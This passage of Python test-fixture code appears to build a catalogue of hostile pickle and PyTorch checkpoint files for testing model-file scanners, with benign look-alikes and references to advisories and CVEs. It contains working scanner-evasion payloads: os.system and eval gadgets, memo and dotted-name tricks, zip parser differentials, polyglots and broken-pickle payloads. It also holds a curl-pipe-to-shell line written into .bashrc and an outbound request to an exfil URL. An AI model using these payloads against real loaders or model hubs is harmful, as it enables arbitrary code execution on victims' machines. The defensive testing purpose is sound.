        "picklescan PR #47 (Missing detection when calling PyTorch functions)",
    ),
    (
        "torch_datapipes_basichandlers_nested",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        ["pickle", INNER_PAYLOAD],
        "The datapipes decoder unpickles data for the 'pickle' extension.",
        "picklescan PR #47 (Missing detection when calling PyTorch functions)",
    ),
    (
        "torch_collect_env_run",
        "torch.utils.collect_env",
        "run",
        [CMD],
        "torch.utils.collect_env.run runs a shell command.",
        "picklescan PR #47 (Missing detection when calling PyTorch functions)",
    ),
    (
        "requests_api_get",
        "requests.api",
        "get",
        ["http://198.51.100.7/exfil"],
        "Outbound HTTP request at load time.",
        "GHSA-hgrh-qx5j-jfwx (picklescan network modules; blocklist 'requests.api')",
    ),
    (
        "distutils_write_file",
        "distutils.file_util",
        "write_file",
        ["/home/user/.bashrc", ["curl http://198.51.100.7/x | sh"]],
        "distutils.file_util.write_file writes arbitrary files.",
        "fickling PR #210 / picklescan blocklist 'distutils.file_util'",
    ),
    (
        "cloudpickle_subimport",
        "cloudpickle.cloudpickle",
        "subimport",
        ["antigravity"],
        "cloudpickle.subimport imports an arbitrary module.",
        "GHSA-9m3x-qqw2-h32h (picklescan cloudpickle helpers)",
    ),
    (
        "pdb_run",
        "pdb",
        "run",
        [SRC],
        "pdb.run exec()s a statement under the debugger.",
        "GHSA-4675-36f9-wf6r (profiler/debugger family, per fickling PR #210)",
    ),
]
for _name, _module, _attr, _args, _desc, _ref in _ADVISORY_GADGETS:
    _simple_case(_name, _module, _attr, _args, _desc, _ref, protocol=4, group="advisory")
    if INNER_PAYLOAD in _args:
        _CASES[-1] = dataclasses.replace(_CASES[-1], streams=(_CASES[-1].data, INNER_PAYLOAD))

_MARSHALLED = marshal.dumps(_CODE)  # serialising a code object, never loading one
_add(
    "marshal_loads_functiontype",
    "types.FunctionType(marshal.loads(<code bytes>), {})(): code object smuggled as marshal data.",
    wrap(
        call(
            call(
                global_("types", "FunctionType"),
                [Raw(call(global_("marshal", "loads"), [_MARSHALLED], 3)), {}],
                3,
            ),
            [],
            3,
        ),
        3,
    ),
    dangerous_global="marshal.loads",
    reference="picklescan PR #74 (importlib and marshal missing from the blocklist)",
    group="advisory",
)

# --- group: opcode variants ------------------------------------------------

_add(
    "inst_os_system_p0",
    "INST opcode: MARK args INST 'os system' calls os.system directly (protocol 0).",
    mark() + text_unicode(CMD) + inst("os", "system") + stop(),
    dangerous_global="os.system",
    reference="technique: INST opcode (pickletools docs)",
    group="opcode",
)
_add(
    "obj_subprocess_p1",
    "OBJ opcode with BINUNICODE args and no PROTO header.",
    mark() + global_("subprocess", "getoutput") + unicode(CMD) + obj() + stop(),
    dangerous_global="subprocess.getoutput",
    reference="technique: OBJ opcode (pickletools docs)",
    group="opcode",
)
_add(
    "newobj_partial_system_p2",
    "NEWOBJ: functools.partial.__new__(partial, posix.system, 'id') then REDUCE with ().",
    wrap(
        global_("functools", "partial")
        + lit((Raw(global_("posix", "system")), CMD))
        + newobj()
        + empty_tuple()
        + reduce(),
        2,
    ),
    dangerous_global="posix.system",
    reference="technique: NEWOBJ only calls __new__, but partial does its work there",
    group="opcode",
    resolved_target="os.system",
)
_add(
    "newobj_ex_partial_check_output_p4",
    "NEWOBJ_EX with kwargs: partial(subprocess.check_output, ['id'], text=True)().",
    wrap(
        ref("functools", "partial", 4)
        + memoize()
        + lit((Raw(ref("subprocess", "check_output", 4) + memoize()), ["id"]), 4)
        + lit({"text": True}, 4)
        + newobj_ex()
        + empty_tuple()
        + reduce(),
        4,
    ),
    dangerous_global="subprocess.check_output",
    reference="technique: NEWOBJ_EX (PEP 3154, protocol 4)",
    group="opcode",
)
_add(
    "payload_result_discarded",
    "posix.system result is POPped and a benign dict is returned: the payload is not part of the "
    "loaded object graph.",
    wrap(call(global_("posix", "system"), [CMD]) + pop() + lit({"epoch": 3}), 2),
    dangerous_global="posix.system",
    reference=(
        "technique: unused-result payloads (fickling UnusedVariables "
        "heuristic, PR #302 BUILD evasion)"
    ),
    group="opcode",
)
_add(
    "exception_oriented_after_payload",
    "Payload, then a deliberately failing REDUCE (len(5) raises TypeError). Loader wrappers that "
    "catch the error and fall back still ran the payload.",
    wrap(
        call(global_("posix", "system"), [CMD]) + pop() + call(global_("builtins", "len"), [5]), 2
    ),
    dangerous_global="posix.system",
    reference="arXiv 2508.19774 'Art of Hide and Seek' (Exception-Oriented Programming)",
    group="opcode",
)
_add(
    "stack_global_without_proto",
    "STACK_GLOBAL used in a stream with no PROTO header: the unpickler never checks protocols.",
    unicode("posix")
    + unicode("system")
    + stack_global()
    + unicode(CMD)
    + tuple_n(1)
    + reduce()
    + stop(),
    dangerous_global="posix.system",
    reference="technique: opcodes are accepted regardless of the declared protocol",
    group="opcode",
)
_add(
    "multiple_pickles_raw_second_hostile",
    "Two concatenated pickles in one .pkl: benign first, hostile second (read by loaders that "
    "call pickle.load() in a loop, e.g. the legacy torch format).",
    pickle.dumps({"epoch": 3}, protocol=2) + OS_SYSTEM_P2,
    dangerous_global="posix.system",
    reference=(
        "technique: picklescan scans multiple pickles per file (_list_globals multiple_pickles)"
    ),
    group="opcode",
    streams=(pickle.dumps({"epoch": 3}, protocol=2), OS_SYSTEM_P2),
)

# --- group: indirect names -------------------------------------------------


def _p4(body: bytes) -> bytes:
    return wrap(body, 4)


_add(
    "memo_binput_binget_stack_global",
    "Module/name strings stored with BINPUT among decoys, recalled with BINGET for STACK_GLOBAL.",
    _p4(
        short_unicode("collections")
        + binput(5)
        + pop()
        + short_unicode("posix")
        + binput(6)
        + pop()
        + short_unicode("OrderedDict")
        + binput(7)
        + pop()
        + short_unicode("system")
        + binput(8)
        + pop()
        + binget(5)
        + binget(7)
        + stack_global()
        + pop()
        + binget(6)
        + binget(8)
        + stack_global()
        + short_unicode(CMD)
        + tuple_n(1)
        + reduce()
    ),
    dangerous_global="posix.system",
    reference="picklescan issue #22 (ImaginaryCTF 'Safe Pickle': memo + STACK_GLOBAL)",
    group="indirect",
    resolved_target="os.system",
)
_MEMO_OVERWRITE = _p4(
    short_unicode("collections")
    + binput(1)
    + pop()
    + short_unicode("system")
    + binput(2)
    + pop()
    + short_unicode("posix")
    + binput(1)
    + pop()
    + binget(1)
    + binget(2)
    + stack_global()
    + short_unicode(CMD)
    + tuple_n(1)
    + reduce()
)
_add(
    "memo_overwrite_same_index",
    "BINPUT 1 first stores 'collections', later overwritten with 'posix'; first-write trackers see "
    "collections.system. The unpickler accepts the overwrite, pickletools.dis rejects it.",
    _MEMO_OVERWRITE,
    dangerous_global="posix.system",
    reference="technique: memo index reuse (picklescan PR #52 'invalid memos' family)",
    group="indirect",
    broken_streams=(_MEMO_OVERWRITE,),
)
_add(
    "memoize_index_after_sparse_binput",
    "MEMOIZE uses len(memo), not a running MEMOIZE counter: after BINPUT "
    "200 the next MEMOIZE is index 1.",
    _p4(
        short_unicode("builtins")
        + binput(200)
        + pop()
        + short_unicode("posix")
        + memoize()
        + pop()
        + short_unicode("system")
        + memoize()
        + pop()
        + binget(1)
        + binget(2)
        + stack_global()
        + short_unicode(CMD)
        + tuple_n(1)
        + reduce()
    ),
    dangerous_global="posix.system",
    reference="technique: MEMOIZE index semantics",
    group="indirect",
)
_add(
    "long_binget_chain",
    "LONG_BINPUT/LONG_BINGET with large indices and a GET->PUT relay chain before STACK_GLOBAL.",
    _p4(
        short_unicode("posix")
        + long_binput(100_000)
        + pop()
        + short_unicode("system")
        + long_binput(100_001)
        + pop()
        + long_binget(100_000)
        + long_binput(7)
        + pop()
        + long_binget(7)
        + long_binget(100_001)
        + stack_global()
        + short_unicode(CMD)
        + tuple_n(1)
        + reduce()
    ),
    dangerous_global="posix.system",
    reference="technique: memo relay chains",
    group="indirect",
)
_add(
    "text_put_get_protocol0",
    "Protocol-0 PUT/GET text memo with STRING operands feeding STACK_GLOBAL.",
    string0("os")
    + put(0)
    + pop()
    + string0("system")
    + put(1)
    + pop()
    + get(0)
    + get(1)
    + stack_global()
    + mark()
    + string0(CMD)
    + tuple_()
    + reduce()
    + stop(),
    dangerous_global="os.system",
    reference="GHSA-9gvj-pp9x-gcfr family (STRING operands for STACK_GLOBAL)",
    group="indirect",
)
_add(
    "concat_operator_add",
    "Module and name computed at load time: operator.add('po','six'), operator.add('sys','tem').",
    _p4(
        call(ref("operator", "add", 4), ["po", "six"], 4)
        + call(ref("operator", "add", 4), ["sys", "tem"], 4)
        + stack_global()
        + short_unicode(CMD)
        + tuple_n(1)
        + reduce()
    ),
    dangerous_global=None,
    reference="technique: non-literal STACK_GLOBAL operands (picklescan treats as 'unknown')",
    group="indirect",
    resolved_target="posix.system",
)
_add(
    "concat_str_join",
    "str.join via dotted STACK_GLOBAL 'builtins' 'str.join' builds 'posix' and 'system'.",
    _p4(
        call(ref("builtins", "str.join", 4), ["", ["po", "s", "ix"]], 4)
        + call(ref("builtins", "str.join", 4), ["", ["sy", "st", "em"]], 4)
        + stack_global()
        + short_unicode(CMD)
        + tuple_n(1)
        + reduce()
    ),
    dangerous_global=None,
    reference="technique: non-literal STACK_GLOBAL operands",
    group="indirect",
    resolved_target="posix.system",
)
_add(
    "concat_str_dunder_add",
    "builtins.str.__add__ (dotted name) concatenation for the module, "
    "memo-recalled literal for the name.",
    _p4(
        short_unicode("system")
        + memoize()
        + pop()
        + call(ref("builtins", "str.__add__", 4), ["pos", "ix"], 4)
        + binget(0)
        + stack_global()
        + short_unicode(CMD)
        + tuple_n(1)
        + reduce()
    ),
    dangerous_global=None,
    reference="technique: non-literal STACK_GLOBAL operands",
    group="indirect",
    resolved_target="posix.system",
)
_add(
    "getattr_on_sys_modules",
    "getattr(operator.getitem(sys.modules, 'os'), 'system')('id').",
    wrap(
        call(
            call(
                global_("builtins", "getattr"),
                [
                    Raw(
                        call(global_("operator", "getitem"), [Raw(global_("sys", "modules")), "os"])
                    ),
                    "system",
                ],
            ),
            [CMD],
        ),
        2,
    ),
    dangerous_global="builtins.getattr",
    reference="technique: picklescan blocklists sys '*' and builtins.getattr",
    group="indirect",
    resolved_target="os.system",
)
_add(
    "getattr_on_globals_builtins",
    "getattr(operator.getitem(builtins.globals(), '__builtins__'), 'eval')(src).",
    wrap(
        call(
            call(
                global_("builtins", "getattr"),
                [
                    Raw(
                        call(
                            global_("_operator", "getitem"),
                            [Raw(call(global_("builtins", "globals"), [])), "__builtins__"],
                        )
                    ),
                    "eval",
                ],
            ),
            [SRC],
        ),
        2,
    ),
    dangerous_global="builtins.getattr",
    reference="technique: namespace access via globals() (modelaudit PR #1348)",
    group="indirect",
    resolved_target="builtins.eval",
)
_add(
    "ext1_registered_in_stream",
    "copyreg.add_extension('posix','system',240) called by the pickle itself, then EXT1 240.",
    wrap(
        call(global_("copyreg", "add_extension"), ["posix", "system", 240])
        + pop()
        + ext1(240)
        + lit((CMD,))
        + reduce(),
        2,
    ),
    dangerous_global="copyreg.add_extension",
    reference="technique: copyreg extension registry (pickletools EXT1/EXT2/EXT4)",
    group="indirect",
    resolved_target="posix.system",
)
_add(
    "ext2_unregistered_code",
    "EXT2 0x1234 as the REDUCE callable: unresolvable statically; fails unless the host "
    "process registered the code.",
    wrap(ext2(0x1234) + lit((CMD,)) + reduce(), 2),
    dangerous_global=None,
    reference="technique: copyreg extension registry",
    group="indirect",
)
_add(
    "ext4_unregistered_code",
    "EXT4 with a large code as the REDUCE callable.",
    wrap(ext4(0x7FFFFFF0) + lit((CMD,)) + reduce(), 2),
    dangerous_global=None,
    reference="technique: copyreg extension registry",
    group="indirect",
)
_add(
    "dotted_global_posixpath_os_system",
    "PROTO 4 + GLOBAL 'posixpath' 'os.system': find_class walks dotted names at protocol >= 4.",
    wrap(call(global_("posixpath", "os.system"), [CMD], 4), 4, use_frame=False),
    dangerous_global="posixpath.os.system",
    reference="technique: attribute traversal in find_class (os.path vs posixpath)",
    group="indirect",
    resolved_target="os.system",
)
_add(
    "dotted_global_main_builtins_eval",
    "'__main__' '__builtins__.eval': builtins reached through __main__.__builtins__.",
    _p4(call(ref("__main__", "__builtins__.eval", 4), [SRC], 4)),
    dangerous_global="__main__.__builtins__.eval",
    reference="technique: builtins via __builtins__ attribute",
    group="indirect",
    resolved_target="builtins.eval",
)
_add(
    "dotted_global_allowlisted_torch_module",
    "'torch.serialization' 'os.system': an allow-listed package's attribute leads to os.",
    _p4(call(ref("torch.serialization", "os.system", 4), [CMD], 4)),
    dangerous_global="torch.serialization.os.system",
    reference="technique: attribute traversal from an allow-listed module",
    group="indirect",
    resolved_target="os.system",
)
_add(
    "dotted_global_collections_sys",
    "'collections' '_sys.modules' -> sys.modules without naming sys, then getitem + getattr.",
    _p4(
        call(
            call(
                ref("builtins", "getattr", 4),
                [
                    Raw(
                        call(
                            ref("_operator", "getitem", 4),
                            [Raw(ref("collections", "_sys.modules", 4)), "os"],
                            4,
                        )
                    ),
                    "system",
                ],
                4,
            ),
            [CMD],
            4,
        )
    ),
    dangerous_global="builtins.getattr",
    reference="technique: private module aliases (collections._sys)",
    group="indirect",
    resolved_target="os.system",
)

# --- group: advisory-specific parser tricks --------------------------------

_GHSA_9GVJ = (
    string0("os")
    + string0("system")
    + stack_global()
    + string0("ls")
    + tuple_n(1)
    + reduce()
    + stop()
)
_add(
    "ghsa_9gvj_string_operands_first_op",
    "STACK_GLOBAL fed by protocol-0 STRING opcodes, the module string being opcode #0.",
    _GHSA_9GVJ,
    dangerous_global="os.system",
    reference="GHSA-9gvj-pp9x-gcfr (picklescan parsing logic flaw, PR #46)",
    group="advisory",
)
_KEYERROR = (
    proto(4)
    + global_("os", "system")
    + text_unicode("echo memo-keyerror")
    + tuple_n(1)
    + reduce()
    + pop()
    + short_unicode("os")
    + memoize()
    + binget(3)
    + binget(0)
    + stack_global()
    + int_(0x42)
    + stop()
)
_add(
    "memo_keyerror_after_payload",
    "Payload first, then BINGET of a never-stored memo slot: crashes naive scanners (KeyError) "
    "after the payload already ran.",
    _KEYERROR,
    dangerous_global="os.system",
    reference="picklescan PR #52 (keyerror-exploit, 'Fix handling invalid memos')",
    group="advisory",
    broken_streams=(_KEYERROR,),
)
_add(
    "memo_type_confusion_int",
    "Memo slot holds an int used as a STACK_GLOBAL operand, after a real payload.",
    proto(4)
    + global_("os", "system")
    + text_unicode("echo type-confusion")
    + tuple_n(1)
    + reduce()
    + pop()
    + int_(7)
    + memoize()
    + pop()
    + short_unicode("system")
    + binget(0)
    + stack_global()
    + stop(),
    dangerous_global="os.system",
    reference="picklescan PR #52 (type-confusion-exploit)",
    group="advisory",
)

# --- group: containers -----------------------------------------------------

_add(
    "torch_zip_data_pkl_hostile",
    "Baseline: torch-style zip whose archive/data.pkl is os.system.",
    torch_zip(OS_SYSTEM_P2),
    dangerous_global="posix.system",
    reference="technique: torch.save zip format",
    group="container",
    filename="model.pt",
    container="torch-zip",
    streams=(OS_SYSTEM_P2,),
)
_add(
    "torch_zip_second_pkl_member",
    "Benign data.pkl plus a hostile archive/extra.pkl member (torch.load ignores it; other tools "
    "that unpickle every *.pkl do not).",
    build_zip(torch_zip_members(BENIGN_PKL, extra=[ZipMember("archive/extra.pkl", EVAL_P2)])),
    dangerous_global="builtins.eval",
    reference="technique: picklescan scans every pickle-like zip member",
    group="container",
    filename="model.pt",
    container="torch-zip",
    streams=(BENIGN_PKL, EVAL_P2),
)
_add(
    "torchscript_constants_pkl",
    "TorchScript-shaped zip (constants.pkl + code/). torch<=2.5.1 routed these to torch.jit.load "
    "even with weights_only=True.",
    build_zip(
        [
            ZipMember("archive/data.pkl", BENIGN_PKL),
            ZipMember("archive/constants.pkl", OS_SYSTEM_P2),
            ZipMember(
                "archive/code/__torch__/model.py", b"class Model(Module):\n  __parameters__ = []\n"
            ),
            ZipMember("archive/version", b"3\n"),
            ZipMember("archive/byteorder", b"little"),
        ]
    ),
    dangerous_global="posix.system",
    reference="CVE-2025-32434 / GHSA-53q9-r3pm-6pq6 (torch.load weights_only -> torch.jit.load)",
    group="advisory",
    filename="model.pt",
    container="torchscript-zip",
    streams=(BENIGN_PKL, OS_SYSTEM_P2),
)
_add(
    "data_pkl_second_pickle_after_stop",
    "archive/data.pkl = benign pickle + STOP + hostile pickle appended.",
    torch_zip(BENIGN_PKL + OS_SYSTEM_P2),
    dangerous_global="posix.system",
    reference="technique: trailing data after STOP",
    group="container",
    filename="model.pt",
    container="torch-zip",
    streams=(BENIGN_PKL, OS_SYSTEM_P2),
)
_add(
    "zip_duplicate_data_pkl_benign_first",
    "Two archive/data.pkl entries, benign first, hostile second: Python "
    "zipfile returns the hostile "
    "(last) one, torch's miniz reader the benign (first) one (verified with torch 2.13).",
    build_zip([ZipMember("archive/data.pkl", BENIGN_PKL), *torch_zip_members(OS_SYSTEM_P2)]),
    dangerous_global="posix.system",
    reference="technique: duplicate zip entries / parser differential",
    group="container",
    filename="model.pt",
    container="torch-zip",
    streams=(BENIGN_PKL, OS_SYSTEM_P2),
)
_add(
    "zip_duplicate_data_pkl_hostile_first",
    "Two archive/data.pkl entries, hostile first, benign second: "
    "torch.load unpickles the hostile one "
    "while a zipfile-based scanner reads the benign one (verified with torch 2.13).",
    build_zip([ZipMember("archive/data.pkl", OS_SYSTEM_P2), *torch_zip_members(BENIGN_PKL)]),
    dangerous_global="posix.system",
    reference="technique: duplicate zip entries / parser differential",
    group="container",
    filename="model.pt",
    container="torch-zip",
    streams=(OS_SYSTEM_P2, BENIGN_PKL),
)
_BAD_CRC_MEMBERS = torch_zip_members(EVAL_P2)
_BAD_CRC_MEMBERS[0] = dataclasses.replace(_BAD_CRC_MEMBERS[0], crc=zlib.crc32(EVAL_P2) ^ 0xDEADBEEF)
_add(
    "zip_bad_crc_data_pkl",
    "Wrong CRC-32 on data.pkl: Python zipfile raises BadZipFile on read, "
    "torch's reader ignores CRCs.",
    build_zip(_BAD_CRC_MEMBERS),
    dangerous_global="builtins.eval",
    reference="CVE-2025-10156 (JFrog, picklescan CRC bypass; fixed in picklescan PR #50)",
    group="advisory",
    filename="model.pt",
    container="torch-zip",
    streams=(EVAL_P2,),
)
for _flag in (0x1, 0x20, 0x40):
    _members = torch_zip_members(EVAL_P2)
    _members[0] = dataclasses.replace(_members[0], flags=_flag)
    _add(
        f"zip_flag_bit_{_flag:#04x}_data_pkl",
        f"General-purpose flag {_flag:#x} set on data.pkl "
        f"(encrypted/patched/strong-encryption bits): "
        "zipfile refuses it; torch 2.13's miniz refuses it too, older torch reportedly did not.",
        build_zip(_members),
        dangerous_global="builtins.eval",
        reference="CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (picklescan zip flag bits)",
        group="advisory",
        filename="model.pt",
        container="torch-zip",
        streams=(EVAL_P2,),
    )
_members = torch_zip_members(EVAL_P2)
_members[0] = dataclasses.replace(_members[0], local_name="archive/datap.kl")
_add(
    "zip_local_central_name_mismatch",
    "Local header says archive/datap.kl, central directory says archive/data.pkl.",
    build_zip(_members),
    dangerous_global="builtins.eval",
    reference="CVE-2025-1944 / GHSA-7q5r-7gvp-wc82 (picklescan zip filename mismatch)",
    group="advisory",
    filename="model.pt",
    container="torch-zip",
    streams=(EVAL_P2,),
)
_add(
    "zip_corrupt_entry_before_data_pkl",
    "A member with a broken local-header signature precedes data.pkl; scanners that abort the "
    "whole archive on the first bad entry never reach the payload.",
    build_zip(
        [
            ZipMember("archive/byteorder", b"little"),
            ZipMember("archive/.format_version", b"1", corrupt_local_signature=True),
            *torch_zip_members(OS_SYSTEM_P2)[:1],
            *torch_zip_members(OS_SYSTEM_P2)[2:],
        ]
    ),
    dangerous_global="posix.system",
    reference="modelscan PR #355 (fail-open ZIP iteration on BadZipFile)",
    group="advisory",
    filename="model.pt",
    container="torch-zip",
    streams=(OS_SYSTEM_P2,),
)
for _top, _slug in (("\u6a21\u578b", "unicode"), ("resnet50 (final) copy", "spaces")):
    _add(
        f"zip_unusual_top_folder_{_slug}",
        f"Top-level folder {_top!r} instead of 'archive' (torch accepts any prefix).",
        torch_zip(OS_SYSTEM_P2, top=_top),
        dangerous_global="posix.system",
        reference="technique: torch derives the record prefix from the first entry",
        group="container",
        filename="model.pt",
        container="torch-zip",
        streams=(OS_SYSTEM_P2,),
    )
_add(
    "zip_junk_prefix",
    "Junk before a hostile torch zip (absolute offsets): zipfile and "
    "torch's record reader open it, "
    "torch.load's offset-0 magic check does not (falls to the legacy path and errors).",
    torch_zip(OS_SYSTEM_P2, prefix=b"\x00JUNK" * 13),
    dangerous_global="posix.system",
    reference="technique: prepended data / self-extractor layout",
    group="container",
    filename="model.pt",
    container="torch-zip",
    streams=(OS_SYSTEM_P2,),
)
_add(
    "polyglot_hostile_pickle_then_benign_zip",
    "Hostile pickle followed by a benign torch zip: is_zipfile() is True (EOCD found) but torch "
    "sees no PK magic at offset 0 and unpickles the prefix on the legacy path.",
    torch_zip(BENIGN_PKL, prefix=OS_SYSTEM_P2),
    dangerous_global="posix.system",
    reference="technique: polyglot / parser differential (torch _is_zipfile checks offset 0)",
    group="container",
    filename="model.pt",
    container="polyglot",
    streams=(OS_SYSTEM_P2, BENIGN_PKL),
)
_add(
    "pt_that_is_plain_pickle",
    "model.pt that is a raw protocol-2 pickle, not a zip.",
    OS_SYSTEM_P2,
    dangerous_global="posix.system",
    reference="CVE-2025-1889 / GHSA-769v-p64c-89pr (extension-driven format detection)",
    group="advisory",
    filename="model.pt",
    container="raw",
)
_add(
    "bin_plain_pickle_protocol4",
    "pytorch_model.bin that is a raw protocol-4 pickle: no legacy magic, no zip; scanners that "
    "only try the PyTorch parser for .bin error out.",
    simple(
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        [None, ["id"], True, None, None, None, 0],
        4,
    ),
    dangerous_global="asyncio.unix_events._UnixSubprocessTransport._start",
    reference="CVE-2025-10155 (JFrog file-extension bypass) / GHSA-jgw4-cr84-mqxg",
    group="advisory",
    filename="pytorch_model.bin",
    container="raw",
)
_add(
    "safetensors_that_is_zip",
    "model.safetensors that is actually a torch zip with a hostile data.pkl.",
    torch_zip(OS_SYSTEM_P2),
    dangerous_global="posix.system",
    reference="technique: extension/magic mismatch",
    group="container",
    filename="model.safetensors",
    container="torch-zip",
    streams=(OS_SYSTEM_P2,),
)
_add(
    "safetensors_that_is_pickle",
    "model.safetensors that is actually a raw pickle.",
    EVAL_P2,
    dangerous_global="builtins.eval",
    reference="technique: extension/magic mismatch",
    group="container",
    filename="model.safetensors",
    container="raw",
)
_add(
    "nonstandard_member_name_in_zip",
    "Pickle stored under a non-pickle name (archive/tokenizer.txt) next to a benign data.pkl.",
    build_zip(
        torch_zip_members(BENIGN_PKL, extra=[ZipMember("archive/tokenizer.txt", OS_SYSTEM_P0)])
    ),
    dangerous_global="os.system",
    reference="CVE-2025-1889 / GHSA-769v-p64c-89pr (non-standard pickle extension)",
    group="advisory",
    filename="model.pt",
    container="torch-zip",
    streams=(BENIGN_PKL, OS_SYSTEM_P0),
)
_LEGACY_BENIGN_OBJ = benign_legacy_obj_pkl()
_add(
    "legacy_bin_hostile_object",
    "Legacy-format pytorch_model.bin whose 4th pickle (the object) is os.system.",
    legacy_file(OS_SYSTEM_P2),
    dangerous_global="posix.system",
    reference="technique: legacy torch.save layout (five pickles + storages)",
    group="container",
    filename="pytorch_model.bin",
    container="legacy",
    streams=(OS_SYSTEM_P2,),
)
_add(
    "legacy_sys_info_payload",
    "Legacy format with the sys_info pickle (3rd) replaced by a payload; torch unpickles it first.",
    legacy_file(_LEGACY_BENIGN_OBJ, sys_info_pkl=EVAL_P2),
    dangerous_global="builtins.eval",
    reference="technique: every legacy header pickle goes through the same unpickler",
    group="container",
    filename="model.pth",
    container="legacy",
    streams=(EVAL_P2, _LEGACY_BENIGN_OBJ),
)
_MAGIC_EVAL = simple("builtins", "eval", [hex(LEGACY_MAGIC)], 2)
_add(
    "legacy_magic_number_via_eval",
    "Legacy format whose magic number pickle is eval('0x1950a86a20f9469cfc6c'); magic-number "
    "checkers that need a literal int give up and skip the file.",
    legacy_file(_LEGACY_BENIGN_OBJ, magic_pkl=_MAGIC_EVAL),
    dangerous_global="builtins.eval",
    reference="GHSA-97f8-7cmv-76j2 (picklescan legacy magic-number bypass)",
    group="advisory",
    filename="model.pt",
    container="legacy",
    streams=(_MAGIC_EVAL, _LEGACY_BENIGN_OBJ),
)
_BROKEN = broken_after_payload(2)
_add(
    "nullifai_broken_pickle_raw",
    "nullifAI: REDUCE posix.system then garbage and no STOP; the payload runs before the error.",
    _BROKEN,
    dangerous_global="posix.system",
    reference="ReversingLabs 'nullifAI' (Feb 2025, malicious Hugging Face models)",
    group="advisory",
    container="raw",
    broken_streams=(_BROKEN,),
)
_add(
    "nullifai_broken_pickle_in_torch_zip",
    "nullifAI broken pickle as archive/data.pkl of a torch zip.",
    torch_zip(_BROKEN),
    dangerous_global="posix.system",
    reference="ReversingLabs 'nullifAI' (Feb 2025)",
    group="advisory",
    filename="pytorch_model.bin",
    container="torch-zip",
    broken_streams=(_BROKEN,),
)
_add(
    "nullifai_broken_pickle_in_7z",
    "nullifAI: the torch archive member compressed as 7z (Copy coder) instead of zip, "
    "named like a PyTorch file.",
    build_7z("archive/data.pkl", _BROKEN),
    dangerous_global="posix.system",
    reference="ReversingLabs 'nullifAI' (Feb 2025): 7z-packed PyTorch files evaded picklescan",
    group="advisory",
    filename="pytorch_model.bin",
    container="7z",
    broken_streams=(_BROKEN,),
)
_add(
    "seven_z_wellformed_pickle",
    "7z archive (Copy coder) wrapping a complete hostile pickle.",
    build_7z("data.pkl", OS_SYSTEM_P2),
    dangerous_global="posix.system",
    reference="picklescan tests/data/malicious1.7z (7z support after nullifAI)",
    group="container",
    filename="model.7z",
    container="7z",
    streams=(OS_SYSTEM_P2,),
)
_BIG_STORAGE_PKL = benign_state_dict_pkl().replace(
    int_(4) + tuple_(), int_(1_000_000) + tuple_(), 1
)
_add(
    "storage_size_mismatch",
    "data.pkl declares a 1,000,000-element storage but archive/data/0 holds 4 floats: must be an "
    "error, never 'compatible'.",
    torch_zip(_BIG_STORAGE_PKL),
    dangerous_global=None,
    expect="error",
    reference="CVE-2026-24747 / GHSA-63cw-57p8-fm3p (weights_only storage size mismatch)",
    group="advisory",
    filename="model.pt",
    container="torch-zip",
    streams=(_BIG_STORAGE_PKL,),
)
_SETITEM_LIST = wrap(empty_list() + int_(0) + int_(1) + setitem(), 2)
_add(
    "setitem_on_non_dict",
    "SETITEM applied to a list (not a dict): legal for pickle, memory corruption in torch's "
    "weights_only unpickler before 2.10.",
    torch_zip(_SETITEM_LIST),
    dangerous_global=None,
    expect="error",
    reference="CVE-2026-24747 / GHSA-63cw-57p8-fm3p (SETITEM/SETITEMS on non-dict)",
    group="advisory",
    filename="model.pt",
    container="torch-zip",
    streams=(_SETITEM_LIST,),
)

CASES: list[HostileCase] = list(_CASES)

# Top-level modules referenced by hostile payloads that building this catalogue
# must never import (checked in a fresh interpreter by the self-check tests).
NEVER_IMPORT_MODULES: frozenset[str] = frozenset(
    {
        "_aix_support",
        "_osx_support",
        "cloudpickle",
        "distutils",
        "numpy.f2py",
        "numpy.testing",
        "requests",
        "test",
        "antigravity",
        "asyncio",
        "bdb",
        "cProfile",
        "code",
        "dill",
        "doctest",
        "ensurepip",
        "idlelib",
        "imaplib",
        "joblib",
        "lib2to3",
        "logging",
        "mailcap",
        "pdb",
        "pip",
        "pkgutil",
        "profile",
        "pty",
        "pydoc",
        "runpy",
        "shutil",
        "socket",
        "ssl",
        "subprocess",
        "timeit",
        "torch",
        "trace",
        "urllib.request",
        "venv",
        "webbrowser",
        "_xxsubinterpreters",
    }
)

# ---------------------------------------------------------------------------
# Benign look-alikes (generated with the real pickle.dumps, protocol 2)
# ---------------------------------------------------------------------------

_FIXTURE_MODULE = "ckpt_fixture_types"


def _dump_with_fixture_module(
    make: Callable[[types.ModuleType], object], protocol: int = 2
) -> bytes:
    """Dump an object whose class lives in a throw-away module named ``ckpt_fixture_types``."""
    module = types.ModuleType(_FIXTURE_MODULE)
    sys.modules[_FIXTURE_MODULE] = module
    try:
        return pickle.dumps(make(module), protocol=protocol)
    finally:
        del sys.modules[_FIXTURE_MODULE]


def _train_config(module: types.ModuleType) -> object:
    cls = dataclasses.make_dataclass(
        "TrainConfig", [("lr", float), ("epochs", int), ("tags", list)]
    )
    cls.__module__ = _FIXTURE_MODULE
    module.TrainConfig = cls  # type: ignore[attr-defined]
    return cls(lr=3e-4, epochs=10, tags=["baseline"])


def _plain_instance(module: types.ModuleType) -> object:
    cls = type("RunInfo", (), {"__module__": _FIXTURE_MODULE})
    module.RunInfo = cls  # type: ignore[attr-defined]
    instance = cls()
    instance.step = 1200  # type: ignore[attr-defined]
    return instance


_BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")


def _benign(
    name: str,
    description: str,
    data: bytes,
    expect: Literal["compatible", "incompatible"],
    *,
    filename: str = "state.pkl",
    reference: str = "technique: benign look-alike",
    streams: Sequence[bytes] | None = None,
) -> BenignCase:
    return BenignCase(
        name,
        description,
        data,
        filename,
        expect,
        reference,
        tuple(streams) if streams is not None else (data,),
    )


BENIGN_LOOKALIKES: list[BenignCase] = [
    _benign(
        "benign_torch_zip_state_dict",
        "torch-style zip with {'weight': FloatTensor[4]} (rebuild_tensor_v2, "
        "FloatStorage, OrderedDict).",
        torch_zip(BENIGN_PKL),
        "compatible",
        filename="model.pt",
        streams=(BENIGN_PKL,),
    ),
    _benign(
        "benign_legacy_state_dict",
        "Legacy five-pickle layout with a benign state dict.",
        legacy_file(_LEGACY_BENIGN_OBJ),
        "compatible",
        filename="pytorch_model.bin",
        streams=(_LEGACY_BENIGN_OBJ,),
    ),
    _benign(
        "datetime_zoneinfo",
        "Aware datetime in Europe/Berlin: pickles as "
